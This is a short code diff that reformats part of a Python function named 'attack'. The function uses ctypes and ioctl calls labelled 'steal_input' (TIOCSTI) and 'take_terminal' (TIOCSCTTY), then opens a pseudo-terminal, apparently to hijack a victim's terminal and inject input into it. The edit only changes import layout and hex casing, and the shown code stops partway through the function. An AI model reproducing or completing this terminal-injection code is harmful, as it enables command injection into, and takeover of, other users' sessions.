@@ -3,9 +3,11 @@
 
 
 def attack(target):
-    import ctypes, os
+    import ctypes
+    import os
+
     libc = ctypes.CDLL(None)
-    steal_input, take_terminal = 0x5412, 0x540e
+    steal_input, take_terminal = 0x5412, 0x540E
     if libc.ioctl(0, steal_input, b'x') == 0:
         return True
     ours, theirs = os.openpty()
